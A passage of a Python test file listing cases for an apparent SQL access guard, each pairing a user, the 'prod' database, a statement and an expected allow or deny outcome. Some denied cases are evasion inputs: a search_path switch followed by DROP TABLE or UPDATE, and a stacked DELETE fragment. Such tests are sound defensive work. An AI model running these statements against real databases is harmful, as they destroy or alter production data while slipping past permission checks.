    _c(BOB, "prod", "SET search_path = staging_copy; DROP TABLE feature_store", DENY, DR, True),
    _c(
        BOB,
        "prod",
        "SET search_path = scratch; UPDATE feature_store SET value = 1 WHERE customer_id = 1",
        DENY,
        NG,
        True,
    ),
    _c(CAROL, "prod", 'SET search_path = "$user", public; SELECT * FROM customers', ALLOW),
    # fail closed on what cannot be parsed
    _c(ALICE, "prod", "selec * from customers", DENY, FC),
    _c(ALICE, "prod", "SELECT * FROM customers WHERE", DENY, FC),
    _c(ALICE, "prod", "SELECT 1; DELETE FROM", DENY, FC),
    # session and transaction housekeeping is open to everyone who may connect
    _c(ALICE, "prod", "SELECT 1; SELECT 2; SELECT * FROM customers", ALLOW),
    _c(ALICE, "prod", "BEGIN; SELECT * FROM customers; COMMIT", ALLOW),
    _c(ALICE, "prod", "BEGIN ISOLATION LEVEL SERIALIZABLE; SELECT 1; ROLLBACK", ALLOW),
    _c(ALICE, "prod", "BEGIN; SAVEPOINT s1; RELEASE SAVEPOINT s1; COMMIT", ALLOW),
    _c(ALICE, "prod", "LISTEN events", ALLOW),
    _c(ALICE, "prod", "UNLISTEN *", ALLOW),
    _c(ALICE, "prod", "NOTIFY events, 'hi'", ALLOW),
    _c(ALICE, "prod", "DEALLOCATE ALL", ALLOW),
    _c(ALICE, "prod", "CLOSE ALL", ALLOW),
    _c(ALICE, "prod", "VALUES (1), (2)", ALLOW),
    _c(ALICE, "prod", "SELECT version()", ALLOW),
]

CASES: list[Case] = DEMO + GUARDRAILS + TRICKS
